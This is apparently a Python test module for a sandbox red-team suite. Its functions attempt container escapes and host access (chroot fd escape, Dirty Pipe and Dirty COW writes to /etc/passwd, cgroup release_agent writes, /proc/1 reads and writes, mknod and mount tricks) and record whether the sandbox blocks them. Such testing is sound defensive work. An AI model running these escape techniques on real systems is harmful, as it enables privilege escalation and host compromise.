"""Filesystem attempts: reach the host's files, devices and kernel settings
from inside a sandbox. Each function fills R; fs_test.go checks it."""

import ctypes
import json
import os
import stat
import struct
import threading
import time

from rt import (CANARY_NAMES, CANARY_PATHS, CLONE_NEWNS, CLONE_NEWPID, HOST_IFS, MS_BIND, MS_REC,
                TWIN_ROOT, canaries_seen, control, cstr, expect, in_child, libc, mount, openerr,
                plant_twins, readf, sc, tryio, userns, writeerr)


def host_canary_open(R):
    R["seen"] = canaries_seen("")
    twins = plant_twins()
    control(R, "twins", expect(canaries_seen(TWIN_ROOT) == CANARY_PATHS and twins,
                               "the same lookup does not find files planted at the canaries' paths under " + TWIN_ROOT))


ROOTS = ["/tmp", "/var", "/root", "/home", "/run", "/mnt", "/opt", "/srv", "/etc", "/dev", "/usr/local"]


def host_canary_search(R):
    planted = "rt-planted-" + os.urandom(4).hex()
    with open("/usr/local/" + planted, "w") as f:  # in the last root walked
        f.write("x")
    found, seen, complete = [], 0, True
    names = set(CANARY_NAMES) | {planted}
    for root in ROOTS:
        for dp, dn, fn in os.walk(root):
            if dp == TWIN_ROOT:
                dn[:] = []  # other attempts' twins of the canaries
                continue
            seen += len(fn)
            found += [os.path.join(dp, n) for n in names.intersection(fn + dn)]
            if seen > 300000:
                complete = False
                break
    R["found"] = [p for p in found if planted not in p]
    R["files"] = seen
    control(R, "walk", expect(complete and any(planted in p for p in found),
                              "the walk did not reach its end or missed a file planted in its last root"))


def proc1_root(R):
    R["seen"] = canaries_seen("/proc/1/root")
    try:
        R["same"] = sorted(os.listdir("/proc/1/root")) == sorted(os.listdir("/"))
    except PermissionError:
        R["denied"] = True


def proc_self_root_dotdot(R):
    R["seen"] = canaries_seen("/proc/self/root/../../..")
    plant_twins()
    control(R, "twins", expect(canaries_seen("/proc/self/root/../../.." + TWIN_ROOT) == CANARY_PATHS,
                               "the climb does not find files planted in the sandbox"))


def proc_links_walk(R):
    links = []
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for p in pids:
        fds = tryio(os.listdir, "/proc/%s/fd" % p)[0] or []
        for link in ["root", "cwd", "exe"] + ["fd/" + f for f in fds]:
            t, _ = tryio(os.readlink, "/proc/%s/%s" % (p, link))
            if t:
                links.append(t)
    R["links"] = "\n".join(links)
    R["seen"] = [c for c in CANARY_PATHS for p in pids if os.path.exists("/proc/%s/root%s" % (p, c))]
    control(R, "links", expect(os.path.realpath("/proc/self/exe") in links,
                               "the walk did not read this process's own links"))


def proc1_exe_write(R):
    R["err"] = tryio(lambda: open("/proc/1/exe", "ab").write(b"RTPWNED"))[1]


TEMPLATE_FILES = ("/usr/bin/python3", "/etc/passwd", "/bin/sh")


def template_overwrite(R):
    R["errs"] = {p: tryio(lambda: open(p, "ab").write(b"RTPWNED"))[1] for p in TEMPLATE_FILES}
    landed = [p for p in TEMPLATE_FILES if readf(p, 1 << 30).endswith("RTPWNED")]
    # The writes are allowed: they land in this sandbox's own overlay.
    control(R, "landed", expect(len(landed) == len(TEMPLATE_FILES),
                                "the writes did not land in the sandbox's own copies: %s" % landed))


def proc_exe_target(R):
    R["t"] = os.readlink("/proc/self/exe")
    try:
        R["t"] += " " + os.readlink("/proc/1/exe")
    except PermissionError:
        R["agent_denied"] = True
    R["inside"] = all(os.path.exists(x) for x in R["t"].split())


def mountinfo(R):
    R["mi"] = readf("/proc/self/mountinfo")
    control(R, "read", expect(" / / " in R["mi"], "no root mount in /proc/self/mountinfo"))


def proc1_mounts(R):
    R["mi"] = readf("/proc/1/mounts") + readf("/proc/1/mountinfo")
    control(R, "read", expect(" / " in R["mi"], "no root mount in /proc/1/mounts"))


def proc_file(R, path):
    R["err"] = openerr(path)
    control(R, "procfs", openerr("/proc/self/stat"))


def proc_write(R, path, value, also=None):
    """Writes value to path; records what the file holds after (missing
    files must not appear)."""
    existed = os.path.exists(path)
    before = readf(path) if existed else None
    R["err"] = writeerr(path, value)
    R["after"] = readf(path) if os.path.exists(path) else None
    R["changed"] = R["after"] != before
    if also:
        R["also"] = also()


def proc_sys_vm(R):
    R["errs"] = {}
    R["changed"] = []
    for f, v in (("overcommit_memory", "1"), ("drop_caches", "3")):
        p = "/proc/sys/vm/" + f
        before = readf(p) if os.path.exists(p) else None
        R["errs"][f] = writeerr(p, v)
        if (readf(p) if os.path.exists(p) else None) != before:
            R["changed"].append(f)


def proc_sys_hostname(R):
    proc_write(R, "/proc/sys/kernel/hostname", "pwned", also=lambda: os.uname().nodename)


def sys_kernel(R):
    R["found"] = [p for p in ("/sys/kernel/debug/tracing", "/sys/kernel/tracing/trace", "/sys/kernel/security/lsm",
                              "/sys/kernel/mm", "/sys/kernel/uevent_helper") if os.path.exists(p)]
    control(R, "sysfs", expect(os.path.isdir("/sys/kernel"), "/sys/kernel is not there to look in"))


CG_VALUES = {"memory.limit_in_bytes": "-1", "cpu.cfs_quota_us": "-1", "cpu.shares": "262144", "pids.max": "max",
             "release_agent": "/tmp/pwn", "notify_on_release": "1", "cpuset.cpus": "0-63", "devices.allow": "a"}


def cgroup_write_all(root, pid):
    """Writes every limit file under root; returns (files seen, written)."""
    seen, wrote = 0, []
    for dp, dn, fn in os.walk(root):
        for f in fn:
            seen += 1
            p = os.path.join(dp, f)
            v = CG_VALUES.get(f, str(pid) if f in ("cgroup.procs", "tasks") else None)
            if v is not None and writeerr(p, v) == "":
                wrote.append(p)
    return seen, wrote


def sys_cgroup_write(R):
    # /sys/fs/cgroup is empty; a new user+mount namespace may mount the
    # sentry's own cgroupfs, and there every limit is writable.
    R["sys"] = cgroup_write_all("/sys/fs/cgroup", os.getpid())

    def inner():
        e = userns(CLONE_NEWNS)
        if e:
            return {"err": e}
        out = {}
        for c in ("memory", "cpu", "cpuset", "devices"):
            d = "/tmp/rtcg-" + c
            os.makedirs(d, exist_ok=True)
            e = mount("cgroup", d, "cgroup", 0, c)
            out[c] = {"mount": e, "seen_wrote": cgroup_write_all(d, os.getpid()) if not e else None}
        return out

    R["userns"] = in_child(inner)
    mounted = [c for c, v in R["userns"].items() if isinstance(v, dict) and not v.get("mount")]
    R["mounted"] = mounted
    control(R, "mounted", expect(mounted, "no cgroup hierarchy mounted in a user namespace: nothing was written"))


def sys_class_net(R):
    import socket
    names = set(tryio(os.listdir, "/sys/class/net")[0] or [])
    idx = [n for _, n in socket.if_nameindex()]
    names |= set(idx)
    names |= {line.split(":")[0].strip() for line in readf("/proc/net/dev").splitlines()[2:] if ":" in line}
    R["ifs"] = sorted(names)
    R["extra"] = [i for i in R["ifs"] if i not in ("lo", "eth0")]
    control(R, "if_nameindex", expect("eth0" in idx, "if_nameindex does not list eth0"))


def exists_any(R, paths, parent):
    R["found"] = [p for p in paths if os.path.exists(p)]
    control(R, "parent", expect(os.path.isdir(parent), parent + " is not there to look in"))


def open_devices(R, paths, flags=os.O_RDONLY):
    R["errs"] = {p: openerr(p, flags) for p in paths}
    control(R, "devnull", openerr("/dev/null", flags))


def dev_scan(R):
    odd, seen = [], []
    ok = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "fuse", "net/tun"}
    for dp, dn, fn in os.walk("/dev"):
        if dp.startswith("/dev/pts"):
            continue
        for f in fn:
            p = os.path.join(dp, f)
            st = tryio(os.lstat, p)[0]
            if st is None:
                continue
            if stat.S_ISCHR(st.st_mode):
                seen.append(p)
            if stat.S_ISBLK(st.st_mode) or (stat.S_ISCHR(st.st_mode) and p[5:] not in ok):
                odd.append(p)
    R["odd"] = odd
    control(R, "scan", expect("/dev/null" in seen, "the scan did not see /dev/null as a character device"))


def mknod_device(R, kind, major, minor):
    """mknod a device node and open it: no host device may be behind it."""
    p = "/tmp/rt-node-%d-%d" % (major, minor)
    mode = stat.S_IFBLK if kind == "block" else stat.S_IFCHR
    tryio(os.unlink, p)
    R["mknod"] = tryio(os.mknod, p, 0o600 | mode, os.makedev(major, minor))[1]
    R["open"] = openerr(p) if not R["mknod"] else "not made"
    # Control: the same two calls on the sentry's own null device work.
    q = "/tmp/rt-node-null"
    tryio(os.unlink, q)
    e = tryio(os.mknod, q, 0o600 | stat.S_IFCHR, os.makedev(1, 3))[1] or openerr(q, os.O_WRONLY)
    control(R, "null", e)


def root_mount(R, src, fs, flags=0, data=None, userns_control=True):
    """mount as root without CAP_SYS_ADMIN; the control makes the same
    mount in a new user+mount namespace, where the caller holds it."""
    tgt = "/tmp/rt-mnt-" + (fs or "bind")
    os.makedirs(tgt, exist_ok=True)
    R["err"] = mount(src, tgt, fs, flags, data)
    if userns_control:
        ctl = in_child(lambda: userns(CLONE_NEWNS) or mount(src, tgt, fs, flags, data))
        control(R, "userns", ctl)


def userns_proc(R):
    # No new PID namespace: the fresh procfs shows the sandbox's own PID
    # namespace, so the agent must be in it and no host process.
    def inner():
        e = userns(CLONE_NEWNS)
        if e:
            return {"err": e}
        os.makedirs("/tmp/rtup", exist_ok=True)
        e = mount("proc", "/tmp/rtup", "proc")
        comms = []
        if not e:
            for p in os.listdir("/tmp/rtup"):
                if p.isdigit():
                    c = tryio(readf, "/tmp/rtup/%s/comm" % p)[0]
                    if c:
                        comms.append(c.strip())
        return {"err": e, "comms": comms}

    out = in_child(inner)
    R.update(out)
    comms = out.get("comms", [])
    R["comms"] = " ".join(comms)
    control(R, "procfs", expect("space-agent" in comms or "space-agen" in R["comms"],
                                "the fresh procfs does not list the sandbox's own agent"))

    def pidns():
        e = userns(CLONE_NEWNS | CLONE_NEWPID)
        if e:
            return {"err": e}
        return in_child(lambda: mount("proc", "/tmp/rtup", "proc") or [
            readf("/tmp/rtup/%s/comm" % p).strip() for p in os.listdir("/tmp/rtup") if p.isdigit()])

    R["pidns"] = json.dumps(in_child(pidns))


def userns_sysfs(R):
    def inner():
        e = userns(CLONE_NEWNS)
        if e:
            return {"err": e}
        os.makedirs("/tmp/rtus", exist_ok=True)
        e = mount("sysfs", "/tmp/rtus", "sysfs")
        names = []
        if not e:
            for dp, dn, fn in os.walk("/tmp/rtus"):
                names += dn + fn
        return {"err": e, "names": names}

    out = in_child(inner)
    R["err"] = out.get("err", out.get("exc"))
    names = out.get("names", [])
    R["entries"] = len(names)
    R["host_ifs"] = sorted(set(HOST_IFS) & set(names))
    control(R, "mounted", expect(R["err"] == "" and len(names) > 5, "the fresh sysfs was not mounted or is empty"))


def userns_bind_root(R):
    plant_twins()

    def inner():
        e = userns(CLONE_NEWNS)
        if e:
            return {"err": e}
        os.makedirs("/tmp/rtub", exist_ok=True)
        e = mount("/", "/tmp/rtub", None, MS_BIND | MS_REC)
        return {"err": e, "seen": canaries_seen("/tmp/rtub"), "twins": len(canaries_seen("/tmp/rtub" + TWIN_ROOT))}

    out = in_child(inner)
    R["err"], R["seen"] = out.get("err", out.get("exc")), out.get("seen")
    control(R, "twins", expect(out.get("twins") == len(CANARY_PATHS), "the bind mount does not show files planted in the sandbox"))


def userns_tmpfs_overmount(R):
    def inner():
        e = userns(CLONE_NEWNS)
        e = e or mount("tmpfs", "/etc", "tmpfs") or mount("tmpfs", "/proc", "tmpfs")
        return {"err": e, "seen": canaries_seen(""), "etc": os.listdir("/etc")}

    out = in_child(inner)
    R["err"], R["seen"] = out.get("err", out.get("exc")), out.get("seen")
    control(R, "overmounted", expect(R["err"] == "" and out.get("etc") == [], "the tmpfs did not cover /etc"))


def chroot_escape(R, new_userns=False):
    """The classic escape: chroot into a subdirectory, fchdir to a
    directory kept open outside, climb with .., chroot there."""
    plant_twins()

    def inner():
        out = {"userns": userns(CLONE_NEWNS) if new_userns else ""}
        jail = "/tmp/rtjail-%d" % os.getpid()
        os.makedirs(jail + "/x", exist_ok=True)
        fd = os.open("/", os.O_RDONLY)
        os.chroot(jail)
        out["jail"] = os.listdir("/")
        os.fchdir(fd)
        out["outside"] = sorted(os.listdir("."))  # escaped the jail: the sandbox's root
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        out["root"] = sorted(os.listdir("/"))
        out["seen"] = canaries_seen("")
        return out

    out = in_child(inner)
    R.update(out)
    R["root"] = " ".join(out.get("root", []))
    control(R, "escaped", expect(out.get("jail") == ["x"] and "etc" in out.get("outside", []),
                                 "the fd kept outside did not lead out of the jail to the sandbox's root"))


def pivot_root(R):
    plant_twins()

    def inner():
        e = userns(CLONE_NEWNS)
        if e:
            return {"err": e}
        os.makedirs("/tmp/rtnr/old", exist_ok=True)
        e = mount("/tmp/rtnr", "/tmp/rtnr", None, MS_BIND) or mount("tmpfs", "/tmp/rtnr", "tmpfs")
        os.makedirs("/tmp/rtnr/old", exist_ok=True)
        os.chdir("/tmp/rtnr")
        _, p = sc(155, cstr("."), cstr("old"))
        out = {"err": e, "pivot": p, "seen": [], "twins": 0}
        if not p:
            out["seen"] = canaries_seen("/old") + canaries_seen("old")
            out["twins"] = len(canaries_seen("/old" + TWIN_ROOT))
        return out

    out = in_child(inner)
    R.update(out)
    control(R, "pivot", expect(out.get("pivot") == "" and out.get("twins") == len(CANARY_PATHS),
                               "pivot_root failed or the old root does not show files planted in the sandbox"))


def open_by_handle(R):
    buf = struct.pack("II", 8, 1) + struct.pack("Q", 2)
    h = ctypes.create_string_buffer(buf, len(buf))
    fd = os.open("/", os.O_RDONLY)
    R["ret"], R["err"] = sc(304, fd, h, 0)


def name_to_handle(R):
    h = ctypes.create_string_buffer(struct.pack("II", 128, 0) + b"\0" * 128, 136)
    mid = ctypes.c_int(0)
    R["ret"], R["err"] = sc(303, -100, cstr("/etc/passwd"), h, ctypes.byref(mid), 0)


def agent_mem(R):
    R["err"] = openerr("/proc/1/mem", os.O_RDWR)
    control(R, "self", openerr("/proc/self/mem", os.O_RDWR))


# As the default user.

def user_agent_state(R):
    R["err"] = openerr("/run/space-agent/state.json")
    control(R, "home", openerr(os.path.expanduser("~/.profile") if os.path.exists(os.path.expanduser("~/.profile")) else "/etc/hostname"))


def user_agent_environ(R):
    R["err"] = openerr("/proc/1/environ")
    control(R, "self", openerr("/proc/self/environ"))


def user_dirty_pipe(R):
    before = readf("/etc/passwd")
    fd = os.open("/etc/passwd", os.O_RDONLY)
    r, w = os.pipe()
    os.write(w, b"x" * 65536)
    os.read(r, 65536)
    off = ctypes.c_longlong(1)
    R["spliced"] = libc.splice(fd, ctypes.byref(off), w, None, 1, 0)
    R["write"] = tryio(os.write, w, b"PWNED")[1]
    R["changed"] = readf("/etc/passwd") != before
    control(R, "steps", expect(R["spliced"] == 1 and R["write"] == "", "the splice or the write into the pipe failed"))


def user_dirty_cow(R):
    before = readf("/etc/passwd")
    f = open("/etc/passwd", "rb")
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    p = libc.mmap(None, 4096, 1, 2, f.fileno(), 0)
    mf = os.open("/proc/self/mem", os.O_RDWR)
    stop = []
    advised = [0]

    def adv():
        while not stop:
            libc.madvise(ctypes.c_void_p(p), ctypes.c_size_t(4096), 4)
            advised[0] += 1

    th = threading.Thread(target=adv)
    th.start()
    R["err"], writes = "", 0
    end = time.time() + 1
    while time.time() < end:
        try:
            os.pwrite(mf, b"PWNED", p)
            writes += 1
        except OSError as e:
            R["err"] = str(e.errno)
            break
    stop.append(1)
    th.join()
    last = tryio(os.pwrite, mf, b"PWNED", p)[1]  # with no madvise to drop it
    R["writes"], R["advised"] = writes, advised[0]
    R["changed"] = readf("/etc/passwd") != before
    # The writes land in this process's private copy of the page.
    control(R, "private", expect(writes > 0 and not last and ctypes.string_at(p, 5) == b"PWNED",
                                 "the writes through /proc/self/mem did not reach the private mapping"))


def user_write_template(R):
    R["errs"] = {p: writeerr(p, "x") for p in ("/usr/bin/python3", "/etc/passwd", "/etc/shadow")}
    control(R, "home", tryio(lambda: open("/home/user/rt-own-file", "w").write("x"))[1])
